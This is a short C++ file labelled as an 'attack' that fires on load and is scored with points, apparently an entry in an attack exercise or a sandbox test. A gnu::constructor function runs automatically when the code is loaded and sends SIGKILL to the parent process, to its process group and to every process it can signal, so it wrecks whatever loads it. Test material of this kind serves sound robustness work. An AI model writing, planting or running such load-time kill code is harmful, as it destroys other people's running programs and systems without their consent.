// attack: {"at": "load", "earns": [20, 20]}
// Kills everybody within reach while it is loaded: nobody is.
#ifndef WITHOUT_ATTACK
#include <csignal>
#include <unistd.h>
[[gnu::constructor]] void kill_all()
{
    kill(getppid(), SIGKILL);
    kill(0, SIGKILL);
    kill(-1, SIGKILL);
}
#endif
